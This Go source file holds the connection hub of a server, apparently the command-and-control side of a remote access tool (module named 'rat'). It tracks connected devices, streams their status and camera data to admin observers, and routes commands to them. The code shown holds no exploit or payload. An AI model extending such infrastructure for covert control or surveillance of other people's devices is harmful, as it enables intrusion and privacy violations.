package hub

import (
	"context"
	"sync"
	"time"

	"github.com/Sp1ker2/rat/internal/model"
	"github.com/Sp1ker2/rat/internal/session"
	"github.com/Sp1ker2/rat/internal/storage"
	"go.uber.org/zap"
)

// Conn is the transport-level handle the hub writes through. Satisfied by
// *websocket.Conn; tests inject fakes.
type Conn interface {
	WriteJSON(v any) error
	Close() error
}

// deviceConn binds one live connection to a device identity. Writes are
// serialized per connection (gorilla allows a single concurrent writer).
type deviceConn struct {
	id       string
	name     string
	conn     Conn
	lastSeen time.Time

	wmu sync.Mutex
}

func (d *deviceConn) writeJSON(v any) error {
	d.wmu.Lock()
	defer d.wmu.Unlock()
	return d.conn.WriteJSON(v)
}

// observer is one admin connection. No identity is tracked per admin.
type observer struct {
	conn Conn

	wmu sync.Mutex
}

func (o *observer) writeJSON(v any) error {
	o.wmu.Lock()
	defer o.wmu.Unlock()
	return o.conn.WriteJSON(v)
}

// Hub is the single authority over who is connected right now, for both
// device and admin roles. It owns the live device connection map and the
// admin observer set, dispatches inbound device messages, fans out events
// to admins and routes commands to devices.
type Hub struct {
	mu      sync.RWMutex
	devices map[string]*deviceConn
	admins  map[Conn]*observer

	registry     *session.Registry
	store        storage.Store
	maxFrameSize int64
	log          *zap.Logger
}

// New creates the hub. maxFrameSize bounds decoded camera payloads
// (0 = unbounded).
func New(registry *session.Registry, store storage.Store, maxFrameSize int64, log *zap.Logger) *Hub {
	return &Hub{
		devices:      make(map[string]*deviceConn),
		admins:       make(map[Conn]*observer),
		registry:     registry,
		store:        store,
		maxFrameSize: maxFrameSize,
		log:          log,
	}
}

// ConnectDevice registers conn as the device's live connection, replacing
// and closing any prior one, refreshes the session registry (provisioning
// a durable profile for unknown identities) and announces the device to
// all admins. Exactly one device_connected broadcast per call.
func (h *Hub) ConnectDevice(ctx context.Context, info model.DeviceInfo, conn Conn) (*model.Session, error) {
	sess, err := h.registry.Register(ctx, info)
	if err != nil {
		return nil, err
	}

	dc := &deviceConn{id: info.ID, name: info.Name, conn: conn, lastSeen: time.Now().UTC()}

	h.mu.Lock()
	prev := h.devices[info.ID]
	h.devices[info.ID] = dc
	total := len(h.devices)
	h.mu.Unlock()

	if prev != nil {
		// Displaced socket: close it so its reader loop ends promptly.
		_ = prev.conn.Close()
	}

	h.BroadcastToAdmins(map[string]any{
		"type":   "device_connected",
		"device": sess,
	}, nil)

	h.log.Info("device connected",
		zap.String("device_id", info.ID),
		zap.String("name", info.Name),
		zap.String("model", info.Manufacturer+" "+info.Model),
		zap.Int("total_devices", total))
	return sess, nil
}

// DisconnectDevice removes the device's live connection and runs the
// disconnect side effects. Idempotent: if no connection is registered for
// the identity nothing happens. When conn is non-nil the entry is only
// removed if it still belongs to that conn, so a displaced connection's
// cleanup cannot tear down its successor.
func (h *Hub) DisconnectDevice(ctx context.Context, id string, conn Conn) {
	h.mu.Lock()
	dc, ok := h.devices[id]
	if ok && conn != nil && dc.conn != conn {
		ok = false
	} else if ok {
		delete(h.devices, id)
	}
	total := len(h.devices)
	h.mu.Unlock()

	if !ok {
		return
	}

	h.registry.MarkOffline(id)

	if _, err := h.store.LogDeviceEvent(ctx, id, "disconnected", nil, 0); err != nil {
		h.log.Warn("log disconnected event failed", zap.String("device_id", id), zap.Error(err))
	}

	h.BroadcastToAdmins(map[string]any{
		"type":      "device_disconnected",
		"device_id": id,
	}, nil)

	h.log.Info("device disconnected",
		zap.String("device_id", id),
		zap.String("name", dc.name),
		zap.Int("total_devices", total))
}

// ConnectAdmin adds conn to the observer set and immediately sends it the
// full device list, online and offline.
func (h *Hub) ConnectAdmin(conn Conn) {
	obs := &observer{conn: conn}

	h.mu.Lock()
	h.admins[conn] = obs
	total := len(h.admins)
	h.mu.Unlock()

	snapshot := h.registry.All()
	if err := obs.writeJSON(map[string]any{
		"type":    "device_list",
		"devices": snapshot,
	}); err != nil {
		h.log.Warn("admin snapshot write failed", zap.Error(err))
		h.DisconnectAdmin(conn)
		_ = conn.Close()
		return
	}

	h.log.Info("admin connected", zap.Int("total_admins", total))
}

// DisconnectAdmin removes conn from the observer set. Idempotent.
func (h *Hub) DisconnectAdmin(conn Conn) {
	h.mu.Lock()
	_, ok := h.admins[conn]
	delete(h.admins, conn)
	total := len(h.admins)
	h.mu.Unlock()

	if ok {
		h.log.Info("admin disconnected", zap.Int("total_admins", total))
	}
}

// SendCommand delivers a command over the device's live connection.
// Returns false without side effects when the device is not connected;
// a write failure also returns false and leaves the broken connection for
// the receive loop's own disconnect handling.
func (h *Hub) SendCommand(ctx context.Context, id string, cmd model.Command) bool {
	h.mu.RLock()
	dc, ok := h.devices[id]
	h.mu.RUnlock()
	if !ok {
		return false
	}

	err := dc.writeJSON(map[string]any{
		"type":    "command",
		"command": cmd.Command,
		"data":    cmd.Data,
	})
	if err != nil {
		h.log.Warn("command delivery failed",
			zap.String("device_id", id),
			zap.String("command", cmd.Command),
			zap.Error(err))
		return false
	}

	if _, err := h.store.LogDeviceEvent(ctx, id, "command_sent", map[string]any{
		"command": cmd.Command,
		"data":    cmd.Data,
	}, 0); err != nil {
		h.log.Warn("log command event failed", zap.String("device_id", id), zap.Error(err))
	}
	return true
}

// BroadcastToAdmins fans out payload to every admin observer except
// exclude, best effort. A failed recipient is pruned from the observer set
// and closed; delivery to the rest continues.
func (h *Hub) BroadcastToAdmins(payload any, exclude Conn) {
	h.mu.RLock()
	recipients := make([]*observer, 0, len(h.admins))
	for conn, obs := range h.admins {
		if conn != exclude {
			recipients = append(recipients, obs)
		}
	}
	h.mu.RUnlock()

	var failed []*observer
	for _, obs := range recipients {
		if err := obs.writeJSON(payload); err != nil {
			failed = append(failed, obs)
		}
	}
	if len(failed) == 0 {
		return
	}

	h.mu.Lock()
	for _, obs := range failed {
		delete(h.admins, obs.conn)
	}
	h.mu.Unlock()
	for _, obs := range failed {
		_ = obs.conn.Close()
	}
	h.log.Warn("pruned broken admin connections", zap.Int("count", len(failed)))
}

// IsConnected reports whether the device has a live connection.
func (h *Hub) IsConnected(id string) bool {
	h.mu.RLock()
	defer h.mu.RUnlock()
	_, ok := h.devices[id]
	return ok
}

// Counts returns the number of live device and admin connections.
func (h *Hub) Counts() (devices, admins int) {
	h.mu.RLock()
	defer h.mu.RUnlock()
	return len(h.devices), len(h.admins)
}
